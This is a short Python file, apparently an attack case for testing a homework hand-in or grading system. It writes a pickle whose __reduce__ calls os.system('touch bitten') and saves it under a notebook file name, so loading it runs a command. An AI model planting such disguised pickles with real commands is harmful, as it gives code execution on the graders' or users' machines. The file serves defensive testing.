# kind: files
# attack: a pickle that runs a command when it is loaded
# lesson: 1-embedding-matrix
# due: held
import os
import pickle


def hand_in(folder, lesson, notebook):
    class Bite:
        def __reduce__(self):
            return os.system, ("touch bitten",)


    (folder / lesson).mkdir()
    (folder / lesson / "embedding_matrix.ipynb").write_bytes(pickle.dumps(Bite()))
